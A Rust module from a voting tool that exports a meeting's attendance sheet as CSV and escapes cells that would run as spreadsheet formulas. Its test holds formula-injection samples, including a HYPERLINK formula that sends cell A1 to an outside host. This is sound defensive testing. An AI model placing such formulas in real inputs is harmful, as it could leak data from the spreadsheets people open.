//! The attendance sheet (émargement) as a spreadsheet: one CSV row per member present or
//! represented, drawn from a verified bundle's `attendance.json`.
//!
//! Written for the spreadsheets organisers actually open: UTF-8 with a byte-order mark (so that
//! Excel reads the accents), `;` between fields (the French locale's list separator), CRLF line
//! ends. It carries exactly what the bundle carries — names, collectives, check-in times and
//! proxies — and nothing about ballots.
//!
//! Names and collectives come from a roster or were typed at the door: a cell that begins as a
//! spreadsheet formula would (`=`, `+`, `-`, `@`, a tab or a carriage return) is written with a
//! leading apostrophe, so that opening the sheet never runs what a member's name says.

use std::borrow::Cow;

use urne_core::results::AttendanceSheet;
use urne_core::tally::Lang;

/// A text cell as a spreadsheet will read it: as text, never as a formula.
fn cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// The file name of a bundle's attendance sheet: the bundle's name with `-emargement.csv`.
pub fn file_name(bundle_file: &str) -> String {
    format!(
        "{}-emargement.csv",
        bundle_file.strip_suffix(".urne").unwrap_or(bundle_file)
    )
}

/// Why the sheet could not be written (only a bug can cause it: the data is plain text).
#[derive(Debug, thiserror::Error)]
#[error("the attendance sheet could not be written: {0}")]
pub struct CsvError(String);

/// The CSV bytes. Rows: members present, sorted by name, then members represented by proxy,
/// sorted by name.
pub fn render(sheet: &AttendanceSheet, lang: Lang) -> Result<Vec<u8>, CsvError> {
    let fr = lang == Lang::Fr;
    let mut out = b"\xEF\xBB\xBF".to_vec();
    {
        let mut w = csv::WriterBuilder::new()
            .delimiter(b';')
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut out);
        let header: [&str; 6] = if fr {
            [
                "Nom",
                "Collectif",
                "Statut",
                "Arrivée (UTC)",
                "Pouvoir de",
                "Identifiant",
            ]
        } else {
            [
                "Name",
                "Collective",
                "Status",
                "Check-in (UTC)",
                "Proxy for",
                "Id",
            ]
        };
        w.write_record(header)
            .map_err(|e| CsvError(e.to_string()))?;
        let mut present: Vec<_> = sheet.present.iter().collect();
        present.sort_by(|a, b| a.name.cmp(&b.name).then(a.id.cmp(&b.id)));
        for m in present {
            let held: Vec<&str> = sheet
                .proxies
                .iter()
                .filter(|p| p.holder == m.id)
                .map(|p| p.absent_name.as_str())
                .collect();
            w.write_record([
                &*cell(&m.name),
                &*cell(m.group.as_deref().unwrap_or("")),
                if fr { "présent" } else { "present" },
                &m.checked_in_at.to_string(),
                &*cell(&held.join(", ")),
                &m.id.to_string(),
            ])
            .map_err(|e| CsvError(e.to_string()))?;
        }
        let mut represented: Vec<_> = sheet.proxies.iter().collect();
        represented.sort_by(|a, b| a.absent_name.cmp(&b.absent_name));
        for p in represented {
            let status = if fr {
                format!("représenté par {}", p.holder_name)
            } else {
                format!("represented by {}", p.holder_name)
            };
            w.write_record([
                &*cell(&p.absent_name),
                "",
                &status,
                "",
                "",
                &p.absent.to_string(),
            ])
            .map_err(|e| CsvError(e.to_string()))?;
        }
        w.flush().map_err(|e| CsvError(e.to_string()))?;
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use urne_core::ids::MemberId;
    use urne_core::results::{PresentMember, ProxyRecord};
    use urne_core::rules::Attendance;
    use urne_core::timestamp::Timestamp;

    fn member(byte: u8, name: &str, group: Option<&str>) -> PresentMember {
        PresentMember {
            id: MemberId::from_bytes([byte; 16]),
            name: name.into(),
            group: group.map(String::from),
            checked_in_at: Timestamp(1_796_400_000),
        }
    }

    /// Every cell of the sheet, as a spreadsheet's CSV import splits them.
    fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(false)
            .from_reader(&bytes[3..])
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect()
    }

    #[test]
    fn a_name_that_reads_as_a_formula_is_written_as_text() {
        let hostile = "=HYPERLINK(\"http://example.invalid/?\"&A1;\"Cliquez\")";
        let sheet = AttendanceSheet {
            members: 4,
            member_weight: 4,
            present: vec![
                member(1, hostile, Some("@SUM(1+1)")),
                member(2, "Jean-Pierre Durand", Some("+33 6 12 34 56 78")),
                member(3, "-2+3", None),
            ],
            proxies: vec![ProxyRecord {
                absent: MemberId::from_bytes([4; 16]),
                absent_name: "\t=1+1".into(),
                holder: MemberId::from_bytes([2; 16]),
                holder_name: "Jean-Pierre Durand".into(),
            }],
            totals: Attendance {
                present: 3,
                represented: 1,
            },
        };
        let rows = cells(&render(&sheet, Lang::Fr).unwrap());
        let formula = |c: &str| c.starts_with(['=', '+', '-', '@', '\t', '\r']);
        for row in &rows {
            for c in row {
                assert!(!formula(c), "a cell a spreadsheet would run: {c:?}");
            }
        }
        // Written as text, whole; an ordinary name is untouched.
        let names: Vec<&str> = rows.iter().skip(1).map(|r| r[0].as_str()).collect();
        assert!(names.contains(&format!("'{hostile}").as_str()), "{names:?}");
        assert!(names.contains(&"'-2+3"));
        assert!(names.contains(&"Jean-Pierre Durand"));
        assert!(names.contains(&"'\t=1+1"));
        let groups: Vec<&str> = rows.iter().skip(1).map(|r| r[1].as_str()).collect();
        assert!(groups.contains(&"'@SUM(1+1)"));
        assert!(groups.contains(&"'+33 6 12 34 56 78"));
        let held = rows.iter().find(|r| r[0] == "Jean-Pierre Durand").unwrap();
        assert_eq!(held[4], "'\t=1+1");
    }
}
